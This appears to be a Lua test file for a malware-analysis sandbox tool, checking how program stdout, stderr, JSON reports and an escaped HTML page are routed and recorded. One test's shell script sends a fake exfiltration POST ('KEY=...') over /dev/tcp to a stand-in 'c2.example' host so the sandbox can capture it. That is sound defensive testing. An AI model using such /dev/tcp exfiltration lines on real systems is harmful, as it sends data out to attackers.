-- SPDX-License-Identifier: MIT
-- Channels an analyst can pipe: with an output on stdout (--json -), the
-- program's own stdout goes to stderr and stdout holds only sbxlua's; the
-- result and the HTML page hold the program's own output and each HTTP
-- request's body; the REPL prints one summary a run, then the program's
-- output.  As root and as uid 65534.
local S = require "tests.support"
local sbx = require "sbx"
local cjson = require "cjson"

-- a shell script the box runs: a marker on each stream, a tag that a
-- page must not take as markup, and a terminal sequence
local PRINTS = "printf 'OUT-%s <b>x</b>\\033[2J\\n' M; printf 'ERR-%s\\n' M >&2"

describe("channels [" .. S.priv .. "]", function()
	S.leak_check(before_each, after_each, assert)

	it("--json -: stdout holds only the JSON, the program's stdout goes to stderr", function()
		-- the analysis box, then the jail (run.lua's default)
		for _, box in ipairs { "--explore", "--wall=30" } do
			local out, err, code = S.runlua(box, "--json", "-", "sh", "-c", PRINTS)
			assert.are.equal(0, code, err)
			local ok, res = pcall(cjson.decode, out)
			assert(ok, box .. ": stdout is not one JSON value: " .. out)
			assert.are.equal("exit", res.outcome)
			assert.truthy(err:find("OUT-M <b>x</b>", 1, true), err)
			assert.truthy(err:find("ERR-M\n", 1, true), err)
			-- and a pipe to a JSON reader takes it whole
			local _, rc = S.sh(S.bin .. " run.lua " .. box .. " --json - sh -c " .. S.q(PRINTS)
				.. " 2>/dev/null </dev/null | python3 -m json.tool >/dev/null")
			assert.are.equal(0, rc)
		end
	end)

	it("--report -: stdout holds only the report", function()
		local out, err = S.runlua("--report", "-", "sh", "-c", PRINTS)
		assert.falsy(out:find("OUT-M", 1, true), out)
		assert.truthy(out:find("sandbox: exit 0\n", 1, true), out)
		assert.truthy(err:find("OUT-M", 1, true), err)
	end)

	it("without an output on stdout, the program's stdout is still sbxlua's stdout", function()
		local out, err = S.runlua("sh", "-c", PRINTS)
		assert.truthy(out:find("OUT-M", 1, true), out)
		assert.falsy(err:find("OUT-M", 1, true), err)
	end)

	it("the HTML page shows the program's stdout and stderr, escaped, and an HTTP body", function()
		local dir, cleanup = S.tmpdir()
		local page = dir .. "/p.html"
		local script = PRINTS .. "; printf 'POST /k HTTP/1.1\\r\\nHost: c2.example\\r\\n"
			.. "Content-Length: 9\\r\\n\\r\\nKEY=\\001\\002<i>' > /dev/tcp/10.1.2.3/80 2>/dev/null;"
			.. " exec 3<>/dev/tcp/10.1.2.3/80 && printf 'POST /k HTTP/1.1\\r\\nHost: c2.example\\r\\n"
			.. "Content-Length: 9\\r\\n\\r\\nKEY=\\001\\002<i>' >&3 && head -c 12 <&3 >/dev/null"
		local _, err, code, res = S.json_run("--explore", "--html", page, "bash", "-c", script)
		local html = S.read(page) or ""
		cleanup()
		assert.are.equal(0, code, err)
		assert.are.equal("OUT-M <b>x</b>\\x1b[2J\\n", res.output.stdout.text)
		assert.are.equal(res.output.stdout.bytes, res.output.stdout.shown)
		assert.truthy(html:find('<section id="output">', 1, true))
		assert.truthy(html:find("OUT-M &lt;b&gt;x&lt;/b&gt;", 1, true), html)
		assert.truthy(html:find('<span class="esc">\\x1b</span>', 1, true))
		assert.truthy(html:find("ERR-M</pre>", 1, true))
		assert.falsy(html:find("<b>x</b>", 1, true))
		-- the verdict comes before the output
		assert.truthy(html:find('id="verdict"', 1, true) < html:find('id="output"', 1, true))
		local http = res.behaviour.http_conversations[1]
		assert(http, "no HTTP request recorded: " .. err)
		assert.are.equal("KEY=\\x01\\x02<i>", http.body)
		assert.truthy(html:find("KEY=<span class=\"esc\">\\x01</span><span class=\"esc\">\\x02</span>&lt;i&gt;",
			1, true), html)
		assert.truthy(html:find("00000000  4b 45 59 3d 01 02 3c 69 3e ", 1, true), html)
	end)

	it("keeps the first bytes of a stream passed on, and counts the rest", function()
		local r = S.run("head -c 200000 /dev/zero | tr '\\0' a; echo done >&2",
			{ stdout = "discard", stderr = "pass", keep_output = 100 })
		assert.is_nil(r.stdout)
		assert.are.equal("done\n", r.stderr)
		local f = assert(io.popen(S.bin .. " -e " .. S.q([[
			package.path = "./?.lua;" .. package.path
			local S = require "tests.support"
			local r = S.run("head -c 200000 /dev/zero | tr '\\0' a", { stdout = "pass", keep_output = 100 })
			io.stderr:write(#r.stdout, " ", r.stdout_bytes, " ", r.stdout:sub(1, 3), "\n")]])
			.. " 2>&1 >/dev/null"))
		local said = f:read("a")
		f:close()
		assert.are.equal("100 200000 aaa\n", said)
	end)

	it("refuses a bad stream mode or keep_output", function()
		for _, extra in ipairs {
			{ stderr = "stderr" }, { stdout = "elsewhere" }, { keep_output = -1 },
			{ keep_output = "x" }, { keep_output = (16 << 20) + 1 },
		} do
			local ok, msg = pcall(sbx.run, S.spec("true", extra))
			assert.is_false(ok)
			assert.truthy(tostring(msg):find("stderr", 1, true) or tostring(msg):find("keep_output", 1, true)
				or tostring(msg):find("stdout", 1, true), msg)
		end
		-- stdout passed to the caller's stderr: the spec's own mode
		local f = assert(io.popen(S.bin .. " -e " .. S.q([[
			package.path = "./?.lua;" .. package.path
			local S = require "tests.support"
			S.run("echo to-err", { stdout = "stderr" })]]) .. " 2>&1 >/dev/null"))
		local said = f:read("a")
		f:close()
		assert.are.equal("to-err\n", said)
	end)

	it("the REPL prints one summary a run, then the program's output; a bad path raises", function()
		local keys = 's = explore("build/tests/hostile")\nr = s:run{"connect"}\n'
			.. 'print(select(2, pcall(explore, "no/such/path")))\ns:close()\n'
		local out = S.sh("printf %s " .. S.q(keys) .. " | " .. S.bin .. " -i 2>&1")
		local _, n = out:gsub("\nbehash ", "")
		assert.are.equal(1, n, out)
		assert.truthy(out:find("\nstdout (26 B):\n  connect: Invalid argument\n", 1, true), out)
		assert.truthy(out:find("explore: no/such/path: cannot be read", 1, true), out)
	end)
end)
